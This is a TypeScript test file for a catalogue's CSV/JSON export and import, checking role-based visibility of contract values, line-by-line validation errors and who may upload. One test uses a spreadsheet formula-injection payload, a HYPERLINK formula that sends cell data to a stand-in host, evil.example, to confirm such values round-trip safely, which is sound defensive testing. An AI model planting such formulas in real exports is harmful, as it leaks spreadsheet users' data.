/**
 * The instrument catalogue as CSV and JSON, and the uploads that create instruments or add impact periods: what
 * each reader gets, whole files or nothing, every problem by line and column in words, and who may upload.
 */
import { parse } from 'csv-parse/sync';
import type { LightMyRequestResponse } from 'fastify';
import { beforeAll, describe, expect, it } from 'vitest';
import { getTranslator } from '../../../core/i18n/i18n.js';
import { valueOf } from '../../../core/testing/factories.js';
import { readPage, TestBrowser, type Page } from '../../../core/testing/http.js';
import { useWorld, type Role } from '../../../core/testing/world.js';
import { catalogueExportColumns } from './service.js';
import { addChainEntry, addImpact, createInstrument } from '../catalogue/service.js';
import type { NewInstrumentInput } from '../schema.js';
import { anInstrumentInput } from '../../../core/testing/records.js';

const fixture = useWorld();

const ids = { publishedA: 0, draftA: 0, publishedB: 0 };

function instrument(partnerId: number, name: string, overrides: Partial<NewInstrumentInput> = {}): NewInstrumentInput {
  return anInstrumentInput(partnerId, name, {
    description: `${name}, described.`,
    authentication: 'SPID',
    licence: 'EUPL-1.2',
    services: [
      { name: 'Applying', description: '' },
      { name: 'Renewing', description: '' },
    ],
    stage: 'pilot',
    ...overrides,
  });
}

beforeAll(async () => {
  const { db } = fixture.context;
  const { partnerA, partnerB, organisationA, organisationB, users } = fixture.world;
  ids.publishedA = valueOf(await createInstrument(db, users.editorA.actor, instrument(partnerA.id, 'Export permits'))).id;
  ids.draftA = valueOf(await createInstrument(db, users.editorA.actor, instrument(partnerA.id, 'Export draft', { published: false }))).id;
  ids.publishedB = valueOf(
    await createInstrument(db, users.editorB.actor, instrument(partnerB.id, 'Export payments', { kind: 'payment_system', contractValuesPublic: true })),
  ).id;
  const chain = { role: 'supplier', inRegion: true, procurement: 'standard_tender' } as const;
  valueOf(await addChainEntry(db, users.editorA.actor, ids.publishedA, { ...chain, organisationId: organisationA.id, contractValueEur: 50_000 }));
  valueOf(await addChainEntry(db, users.editorB.actor, ids.publishedB, { ...chain, organisationId: organisationB.id, contractValueEur: 20_000.5 }));
});

const anonymous = () => new TestBrowser(fixture.context.app);
const browserOf = async (role: Role | 'anonymous') => (role === 'anonymous' ? anonymous() : fixture.browserFor(role));
const csvRows = (body: string) => parse<Record<string, string>>(body, { bom: true, columns: true });
const exported = (rows: Record<string, string>[]) =>
  rows.filter((row) => row.name?.startsWith('Export ')).sort((a, b) => String(a.name).localeCompare(String(b.name)));
const problemRows = (page: Page) =>
  [...page.screen.getByRole('table', { name: 'Problems by line' }).querySelectorAll('tbody tr')].map((row) =>
    [...row.querySelectorAll('td')].map((cell) => cell.textContent),
  );
const countNamed = async (prefix: string) =>
  (await fixture.context.db.selectFrom('instruments').select('id').where('name', 'like', `${prefix}%`).execute()).length;
const en = async () => (await getTranslator()).translate('en');

describe('downloading the catalogue', () => {
  it('gives the public a UTF-8 CSV of the published instruments, without contract values the partner keeps private', async () => {
    const response = await anonymous().get('/instruments.csv');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe('attachment; filename="instruments.csv"');
    expect(response.body.startsWith('\ufeff')).toBe(true);
    expect(response.body.slice(1).split('\r\n')[0] ?? response.body.slice(1).split('\n')[0]).toContain(catalogueExportColumns.join(','));
    const rows = exported(csvRows(response.body));
    expect(rows.map((row) => row.name)).toEqual(['Export payments', 'Export permits']);
    expect(rows[1]).toMatchObject({
      id: String(ids.publishedA),
      partner: fixture.world.partnerA.name,
      kind: 'online_service',
      stage: 'pilot',
      stage_since: '2026-01-15',
      channels: 'web;phone',
      languages: 'it;en',
      is_free: 'yes',
      services: 'Applying | Renewing',
      published: 'yes',
      contract_values_public: 'no',
      contract_value_eur: '',
    });
    // The other partner made its contract values public.
    expect(rows[0]?.contract_value_eur).toBe('20000.5');
  });

  it('gives staff of the programme the contract totals and the unpublished instruments they may read, as JSON too', async () => {
    const editor = await fixture.browserFor('editorA');
    const response = await editor.get('/instruments.json');
    expect(response.headers['content-type']).toBe('application/json; charset=utf-8');
    const rows = (JSON.parse(response.body) as Record<string, unknown>[]).filter((row) => String(row.name).startsWith('Export '));
    expect(rows.map((row) => [row.name, row.contract_value_eur]).sort()).toEqual([
      ['Export draft', null],
      ['Export payments', 20000.5],
      ['Export permits', 50000],
    ]);
    expect(rows.find((row) => row.name === 'Export permits')).toMatchObject({
      channels: ['web', 'phone'],
      services: ['Applying', 'Renewing'],
      is_free: true,
      published: true,
    });

    const other = exported(csvRows((await (await fixture.browserFor('editorB')).get('/instruments.csv')).body));
    expect(other.map((row) => [row.name, row.contract_value_eur])).toEqual([
      ['Export payments', '20000.5'],
      ['Export permits', '50000'],
    ]);
    const coordinator = exported(csvRows((await (await fixture.browserFor('coordinator')).get('/instruments.csv')).body));
    expect(coordinator.map((row) => row.name)).toEqual(['Export draft', 'Export payments', 'Export permits']);
    const stakeholder = exported(csvRows((await (await fixture.browserFor('stakeholderA')).get('/instruments.csv')).body));
    expect(stakeholder.map((row) => [row.name, row.contract_value_eur])).toEqual([
      ['Export payments', '20000.5'],
      ['Export permits', ''],
    ]);
  });

  it('follows the catalogue filters', async () => {
    const rows = exported(csvRows((await anonymous().get('/instruments.csv?kind=payment_system')).body));
    expect(rows.map((row) => row.name)).toEqual(['Export payments']);
  });
});

const header = 'partner,name,description,kind,stage,stage_since,theme,channels,audiences,languages,is_free,cost_description,services,published';

async function uploadCatalogue(content: string | Buffer, options: { role?: Role; name?: string } = {}): Promise<LightMyRequestResponse> {
  const browser = await fixture.browserFor(options.role ?? 'editorA');
  const name = options.name ?? 'instruments.csv';
  return browser.upload('/instruments/import', { file: { filename: name, content, contentType: name.endsWith('.json') ? 'application/json' : 'text/csv' } });
}

describe('importing instruments', () => {
  it('creates every instrument of a valid file in one go, with services, first stage and audit entries', async () => {
    const { partnerA } = fixture.world;
    const csv = [
      header,
      `${partnerA.shortName},Imported parking,"Parking, online",online_service,live,2025-05-01,digital-services,web;mobile_app,citizens;businesses,it;en,yes,,Applying | Paying,yes`,
      `${partnerA.name},Imported chatbot,A chatbot,ai_tool,idea,2026-11-27,,,,,no,Paid per answer,Answering,`,
    ].join('\r\n');
    const page = readPage(await uploadCatalogue(csv));
    expect(page.status).toBe(200);
    expect(page.screen.getByRole('heading', { level: 1 }).textContent).toBe('2 instruments imported');

    const { db } = fixture.context;
    const rows = await db
      .selectFrom('instruments')
      .select(['id', 'partner_id', 'kind', 'stage', 'stage_since', 'theme_code', 'channels', 'audiences', 'is_free', 'cost_description', 'published'])
      .where('name', 'like', 'Imported %')
      .orderBy('id')
      .execute();
    expect(rows.map(({ id: _id, ...row }) => row)).toEqual([
      {
        partner_id: partnerA.id,
        kind: 'online_service',
        stage: 'live',
        stage_since: '2025-05-01',
        theme_code: 'digital-services',
        channels: ['web', 'mobile_app'],
        audiences: ['citizens', 'businesses'],
        is_free: true,
        cost_description: '',
        published: true,
      },
      {
        partner_id: partnerA.id,
        kind: 'ai_tool',
        stage: 'idea',
        stage_since: '2026-11-27',
        theme_code: null,
        channels: [],
        audiences: [],
        is_free: false,
        cost_description: 'Paid per answer',
        published: false,
      },
    ]);
    const created = rows.map((row) => row.id);
    const services = await db
      .selectFrom('instrument_services')
      .select(['instrument_id', 'name'])
      .where('instrument_id', 'in', created)
      .orderBy('instrument_id')
      .orderBy('position')
      .execute();
    expect(services.map((service) => service.name)).toEqual(['Applying', 'Paying', 'Answering']);
    const stages = await db.selectFrom('instrument_stages').select(['stage', 'occurred_on']).where('instrument_id', 'in', created).orderBy('id').execute();
    expect(stages).toEqual([
      { stage: 'live', occurred_on: '2025-05-01' },
      { stage: 'idea', occurred_on: '2026-11-27' },
    ]);
    const audit = await db
      .selectFrom('audit_events')
      .select('entity_id')
      .where('action', '=', 'instrument.import')
      .where('entity_id', 'in', created.map(String))
      .execute();
    expect(audit).toHaveLength(2);
  });

  it('reads the language of each row’s texts, English in a file without the column, and refuses one it does not know', async () => {
    const { partnerA } = fixture.world;
    const withLanguage = `${header},text_language`;
    const refused = readPage(
      await uploadCatalogue(
        [withLanguage, `${partnerA.shortName},Keelega teenus,Kirjeldus,online_service,live,2025-05-01,,web,,,yes,,Taotlemine,,xx`].join('\n'),
      ),
    );
    expect(refused.status).toBe(400);
    expect(problemRows(refused)).toEqual([['2', 'text_language', 'Enter one of: en, it, et, hu, sv']]);
    expect(await countNamed('Keelega teenus')).toBe(0);

    const page = readPage(
      await uploadCatalogue(
        [withLanguage, `${partnerA.shortName},Keelega teenus,Kirjeldus,online_service,live,2025-05-01,,web,,,yes,,Taotlemine,,ET`].join('\n'),
      ),
    );
    expect(page.status).toBe(200);
    const languageOf = async (name: string) =>
      (await fixture.context.db.selectFrom('instruments').select('text_language').where('name', '=', name).executeTakeFirstOrThrow()).text_language;
    expect(await languageOf('Keelega teenus')).toBe('et');
    expect(await languageOf('Imported parking')).toBe('en');
  });

  it('takes a JSON array whose lists are arrays and whose answers are true or false', async () => {
    const json = JSON.stringify([
      {
        partner: String(fixture.world.partnerA.id),
        name: 'Imported JSON kiosk',
        description: 'A kiosk',
        kind: 'other',
        stage: 'design',
        stage_since: '2026-02-01',
        channels: ['kiosk'],
        is_free: true,
        services: ['Printing certificates'],
        published: false,
      },
    ]);
    const page = readPage(await uploadCatalogue(json, { name: 'instruments.json' }));
    expect(page.status).toBe(200);
    const row = await fixture.context.db
      .selectFrom('instruments')
      .select(['channels', 'published'])
      .where('name', '=', 'Imported JSON kiosk')
      .executeTakeFirstOrThrow();
    expect(row).toEqual({ channels: ['kiosk'], published: false });
  });

  it('imports a downloaded file as it is', async () => {
    const download = await (await fixture.browserFor('editorA')).get(`/instruments.csv?partner=${fixture.world.partnerA.id}&kind=online_service&q=Export`);
    const renamed = download.body.replace(/Export permits/g, 'Reimported permits');
    expect(readPage(await uploadCatalogue(renamed)).status).toBe(200);
    const row = await fixture.context.db
      .selectFrom('instruments')
      .select(['channels', 'published', 'partner_id'])
      .where('name', '=', 'Reimported permits')
      .executeTakeFirstOrThrow();
    expect(row).toEqual({ channels: ['web', 'phone'], published: true, partner_id: fixture.world.partnerA.id });
  });

  it('brings back a downloaded instrument whose texts a spreadsheet would run as formulas, exactly as it was', async () => {
    const { db } = fixture.context;
    const name = '=HYPERLINK("http://evil.example/?d="&A1,"Roundtrip hostile")';
    const original = instrument(fixture.world.partnerA.id, name, {
      description: "'=1+1 stays as typed, and so does this:\n-2+3",
      authentication: '+SPID',
      isFree: false,
      costDescription: '@once a year',
      services: [
        { name: '@Applying', description: '' },
        { name: "'-Renewing", description: '' },
        { name: 'Paying by card | by transfer; or in cash', description: '' },
      ],
    });
    valueOf(await createInstrument(db, fixture.world.users.editorA.actor, original));
    const download = await (await fixture.browserFor('editorA')).get(`/instruments.csv?partner=${fixture.world.partnerA.id}&q=hostile`);
    expect(readPage(await uploadCatalogue(download.body.replace(/^\uFEFF/, ''))).status).toBe(200);
    const rows = await db
      .selectFrom('instruments')
      .select(['id', 'name', 'description', 'authentication', 'cost_description', 'channels', 'kind', 'stage'])
      .where('name', '=', name)
      .orderBy('id')
      .execute();
    expect(rows).toHaveLength(2);
    const [first, second] = rows.map(({ id: _id, ...row }) => row);
    expect(second).toEqual(first);
    const services = await db
      .selectFrom('instrument_services')
      .select(['instrument_id', 'name'])
      .where(
        'instrument_id',
        'in',
        rows.map((row) => row.id),
      )
      .orderBy('instrument_id')
      .orderBy('position')
      .execute();
    const names = ['@Applying', "'-Renewing", 'Paying by card | by transfer; or in cash'];
    expect(services.map((service) => service.name)).toEqual([...names, ...names]);
  });

  it('lists every bad row by line and column, in words, and writes nothing', async () => {
    const { partnerA } = fixture.world;
    const csv = [
      header,
      `${partnerA.shortName},Bad good row,Fine,online_service,live,2025-05-01,,web,,,yes,,Applying,`,
      `${partnerA.shortName},Bad kind,Fine,hologram,live,2025-05-01,,web,,,yes,,Applying,`,
      `${partnerA.shortName},Bad date,Fine,online_service,live,01/05/2025,,web;fax,,,maybe,,Applying,`,
      `${partnerA.shortName},,Fine,online_service,live,2099-01-01,astrology,web,,,no,,,`,
      `Atlantis,Bad partner,Fine,online_service,live,2025-05-01,,web,,,yes,,Applying,`,
    ].join('\n');
    const page = readPage(await uploadCatalogue(csv));
    expect(page.status).toBe(400);
    expect(page.title.startsWith('Error:')).toBe(true);
    expect(page.screen.getByRole('heading', { level: 1 }).textContent).toBe('Nothing was imported');
    expect(page.screen.getByRole('alert').textContent).toContain('Some rows have problems, so nothing was written.');
    const t = await en();
    expect(problemRows(page)).toEqual([
      ['3', 'kind', 'Enter one of: online_service, payment_system, data_platform, ai_tool, mobile_app, process_digitalisation, other'],
      ['4', 'stage_since', 'Enter a date as YYYY-MM-DD, for example 2026-03-01'],
      ['4', 'channels', 'Unknown values: fax. Use these, separated by semicolons: web, mobile_app, kiosk, phone, in_person'],
      ['4', 'is_free', 'Enter yes or no'],
      ['5', 'name', t('instruments.form.name.required')],
      ['5', 'stage_since', expect.stringMatching(/^The date must be today \(\d{4}-\d{2}-\d{2}\) or earlier$/)],
      ['5', 'theme', 'No theme has the code “astrology”'],
      ['5', 'cost_description', t('instruments.form.costDescription.required')],
      ['5', 'services', 'Enter at least one service; separate several with “ | ”'],
      ['6', 'partner', 'No partner is called “Atlantis”'],
    ]);
    expect(await countNamed('Bad ')).toBe(0);
  });

  it('refuses rows for a partner the editor does not work for, and writes none of the file', async () => {
    const { partnerA, partnerB } = fixture.world;
    const csv = [
      header,
      `${partnerA.shortName},Cross mine,Fine,online_service,live,2025-05-01,,web,,,yes,,Applying,`,
      `${partnerB.shortName},Cross theirs,Fine,online_service,live,2025-05-01,,web,,,yes,,Applying,`,
    ].join('\n');
    const page = readPage(await uploadCatalogue(csv));
    expect(page.status).toBe(400);
    expect(problemRows(page)).toEqual([['3', 'partner', `You may not record instruments for “${partnerB.shortName}”`]]);
    expect(await countNamed('Cross ')).toBe(0);
  });

  it('refuses a file with columns it does not know, naming them', async () => {
    const page = readPage(
      await uploadCatalogue(
        `${header},colour,budget\n${fixture.world.partnerA.shortName},Unknown column,Fine,online_service,live,2025-05-01,,web,,,yes,,Applying,,red,10\n`,
      ),
    );
    expect(page.status).toBe(400);
    expect(page.screen.getByRole('alert').textContent).toContain(
      'The first line names columns the import does not know: colour, budget. Remove or rename them.',
    );
    expect(await countNamed('Unknown column')).toBe(0);
    const json = readPage(await uploadCatalogue(JSON.stringify([{ partner: 'x', name: 'Unknown key', colour: 'red' }]), { name: 'x.json' }));
    expect(problemRows(json)).toEqual([['1', '', 'This item has keys the import does not know: colour']]);
  });

  it('refuses a file that is not UTF-8, naming the first bad line', async () => {
    const latin1 = Buffer.from(
      `${header}\n${fixture.world.partnerA.shortName},G\xe4vle permits,Fine,online_service,live,2025-05-01,,web,,,yes,,Applying,\n`,
      'latin1',
    );
    const page = readPage(await uploadCatalogue(latin1));
    expect(page.status).toBe(400);
    expect(page.screen.getByRole('alert').textContent).toContain('The file is not in UTF-8 (the first problem is on line 2).');
    expect(await countNamed('G')).toBe(0);
  });

  it('asks for a file, and for a .csv or .json one, on the form itself', async () => {
    const browser = await fixture.browserFor('editorA');
    const none = readPage(await browser.upload('/instruments/import', { file: { filename: '', content: '' } }));
    expect(none.status).toBe(400);
    expect(none.screen.getByRole('link', { name: 'Choose the file to import' }).getAttribute('href')).toBe('#field-file');
    expect(none.screen.getByLabelText('File').getAttribute('aria-invalid')).toBe('true');
    const excel = readPage(await uploadCatalogue('whatever', { name: 'instruments.xlsx' }));
    expect(excel.status).toBe(400);
    expect(excel.screen.getByRole('link', { name: 'Choose a file ending in .csv or .json' })).toBeTruthy();
  });
});

const impactHeader =
  'period_start,period_end,users,transactions,processing_minutes_digital,processing_minutes_former,cost_digital_eur,cost_former_eur,satisfaction_percent,digital_share_percent';

async function uploadImpact(instrumentId: number, content: string, role: Role = 'editorA'): Promise<LightMyRequestResponse> {
  const browser = await fixture.browserFor(role);
  return browser.upload(`/instruments/${instrumentId}/impact/import`, { file: { filename: 'impact.csv', content, contentType: 'text/csv' } });
}

const periodsOf = async (instrumentId: number) =>
  fixture.context.db
    .selectFrom('instrument_impact')
    .select(['period_start', 'period_end', 'users', 'cost_digital_eur', 'satisfaction_percent'])
    .where('instrument_id', '=', instrumentId)
    .orderBy('period_start')
    .execute();

describe('importing impact measurements', () => {
  it('shows the upload form to the instrument’s editors', async () => {
    const page = await (await fixture.browserFor('editorA')).page(`/instruments/${ids.publishedA}/impact/import`);
    expect(page.status).toBe(200);
    expect(page.screen.getByRole('heading', { level: 1 }).textContent).toContain('Import impact measurements');
    expect(page.screen.getByLabelText('File')).toBeTruthy();
  });

  it('adds every period of a valid file, audited', async () => {
    const csv = [impactHeader, '2026-01-01,2026-03-31,1200,3400,5,45,"1,20",8.5,92,60', '2026-04-01,2026-06-30,1500,,,,,,,'].join('\n');
    const page = readPage(await uploadImpact(ids.publishedA, csv));
    expect(page.status).toBe(200);
    expect(page.screen.getByRole('heading', { level: 1 }).textContent).toBe('2 measurement periods imported');
    const periods = (await periodsOf(ids.publishedA)).map((period) => ({
      ...period,
      cost_digital_eur: period.cost_digital_eur === null ? null : Number(period.cost_digital_eur),
      satisfaction_percent: period.satisfaction_percent === null ? null : Number(period.satisfaction_percent),
    }));
    expect(periods).toEqual([
      { period_start: '2026-01-01', period_end: '2026-03-31', users: 1200, cost_digital_eur: 1.2, satisfaction_percent: 92 },
      { period_start: '2026-04-01', period_end: '2026-06-30', users: 1500, cost_digital_eur: null, satisfaction_percent: null },
    ]);
    const audit = await fixture.context.db
      .selectFrom('audit_events')
      .select('id')
      .where('action', '=', 'instrument.import_impact')
      .where('entity_id', '=', String(ids.publishedA))
      .execute();
    expect(audit).toHaveLength(2);
  });

  it('refuses periods that overlap each other in the file, or one already recorded, and writes none', async () => {
    const inFile = readPage(
      await uploadImpact(
        ids.publishedB,
        [impactHeader, '2026-01-01,2026-03-31,1,,,,,,,', '2026-07-01,2026-09-30,2,,,,,,,', '2026-03-15,2026-04-15,3,,,,,,,'].join('\n'),
        'editorB',
      ),
    );
    expect(inFile.status).toBe(400);
    expect(problemRows(inFile)).toEqual([['4', 'period_start', 'This period overlaps the period on line 2']]);
    expect(await periodsOf(ids.publishedB)).toEqual([]);

    const { db } = fixture.context;
    valueOf(
      await addImpact(db, fixture.world.users.editorB.actor, ids.publishedB, {
        periodStart: '2025-10-01',
        periodEnd: '2025-12-31',
        users: 10,
        transactions: null,
        processingMinutesDigital: null,
        processingMinutesFormer: null,
        costDigitalEur: null,
        costFormerEur: null,
        satisfactionPercent: null,
        digitalSharePercent: null,
      }),
    );
    const existing = readPage(
      await uploadImpact(ids.publishedB, [impactHeader, '2026-01-01,2026-03-31,1,,,,,,,', '2025-12-01,2025-12-31,2,,,,,,,'].join('\n'), 'editorB'),
    );
    expect(existing.status).toBe(400);
    expect(problemRows(existing)).toEqual([['3', 'period_start', 'This period overlaps the period already recorded from 2025-10-01 to 2025-12-31']]);
    expect((await periodsOf(ids.publishedB)).map((period) => period.period_start)).toEqual(['2025-10-01']);
  });

  it('lists a period overlapping one already recorded together with the other rows’ problems, in one report', async () => {
    const { db } = fixture.context;
    const id = valueOf(await createInstrument(db, fixture.world.users.editorA.actor, instrument(fixture.world.partnerA.id, 'Impact in one round'))).id;
    valueOf(
      await addImpact(db, fixture.world.users.editorA.actor, id, {
        periodStart: '2024-01-01',
        periodEnd: '2024-03-31',
        users: 10,
        transactions: null,
        processingMinutesDigital: null,
        processingMinutesFormer: null,
        costDigitalEur: null,
        costFormerEur: null,
        satisfactionPercent: null,
        digitalSharePercent: null,
      }),
    );
    const page = readPage(await uploadImpact(id, [impactHeader, '2024-02-01,2024-02-29,5,,,,,,,', '2024-05-01,2024-05-31,-5,,,,,,,'].join('\n')));
    expect(page.status).toBe(400);
    expect(problemRows(page)).toEqual([
      ['2', 'period_start', 'This period overlaps the period already recorded from 2024-01-01 to 2024-03-31'],
      ['3', 'users', (await en())('instruments.impact.count.invalid')],
    ]);
  });

  it('refuses bad figures by line and column with the measurement form’s messages', async () => {
    const t = await en();
    const page = readPage(await uploadImpact(ids.draftA, [impactHeader, '2026-01-01,2026-01-31,-5,,,,,,,', '2026-02-01,2026-01-01,,,,,,,101,'].join('\n')));
    expect(page.status).toBe(400);
    expect(problemRows(page)).toEqual([
      ['2', 'users', t('instruments.impact.count.invalid')],
      ['3', 'period_end', t('instruments.impact.periodEnd.beforeStart')],
      ['3', 'satisfaction_percent', t('instruments.impact.percent.invalid')],
    ]);
    expect(await periodsOf(ids.draftA)).toEqual([]);
  });
});

describe('dates in imported files', () => {
  it('refuses years 0001 and 9999 in a catalogue and in impact periods, by line and column', async () => {
    const years = 'Enter a date between 1900 and 2100';
    const catalogue = readPage(
      await uploadCatalogue([header, `${fixture.world.partnerA.shortName},Year one,Fine,online_service,live,0001-05-01,,web,,,yes,,Applying,`].join('\n')),
    );
    expect(catalogue.status).toBe(400);
    expect(problemRows(catalogue)).toEqual([['2', 'stage_since', years]]);
    expect(await countNamed('Year one')).toBe(0);
    const impact = readPage(await uploadImpact(ids.draftA, [impactHeader, '0001-01-01,9999-12-31,5,,,,,,,'].join('\n')));
    expect(impact.status).toBe(400);
    expect(problemRows(impact)).toEqual([
      ['2', 'period_start', years],
      ['2', 'period_end', years],
    ]);
    expect(await periodsOf(ids.draftA)).toEqual([]);
  });
});

describe('who may upload', () => {
  const catalogueFile = () => `${header}\n${fixture.world.partnerA.shortName},Permission probe,Fine,online_service,live,2025-05-01,,web,,,yes,,Applying,\n`;

  it('sends anonymous visitors to sign in', async () => {
    for (const url of ['/instruments/import', `/instruments/${ids.publishedA}/impact/import`]) {
      const response = await anonymous().get(url);
      expect(response.statusCode, url).toBe(303);
      expect(response.headers.location).toBe(`/sign-in?next=${encodeURIComponent(url)}`);
      const posted = await anonymous().upload(url, { file: { filename: 'x.csv', content: catalogueFile() } });
      expect(posted.headers.location, url).toBe('/sign-in');
    }
  });

  it('refuses roles that record no instruments, and another partner’s editor on this instrument', async () => {
    for (const role of ['stakeholderA', 'plainUser', 'coordinator'] as const) {
      const browser = await browserOf(role);
      expect((await browser.get('/instruments/import')).statusCode, role).toBe(403);
      expect((await browser.upload('/instruments/import', { file: { filename: 'x.csv', content: catalogueFile() } })).statusCode, role).toBe(403);
    }
    const editorB = await fixture.browserFor('editorB');
    expect((await editorB.get(`/instruments/${ids.publishedA}/impact/import`)).statusCode).toBe(403);
    const before = await periodsOf(ids.publishedA);
    expect((await uploadImpact(ids.publishedA, `${impactHeader}\n2027-01-01,2027-01-31,1,,,,,,,\n`, 'editorB')).statusCode).toBe(403);
    expect(await periodsOf(ids.publishedA)).toEqual(before);
    expect(await countNamed('Permission probe')).toBe(0);
  });

  it('answers 404 for an instrument that does not exist', async () => {
    expect((await (await fixture.browserFor('editorA')).get('/instruments/999999/impact/import')).statusCode).toBe(404);
  });
});
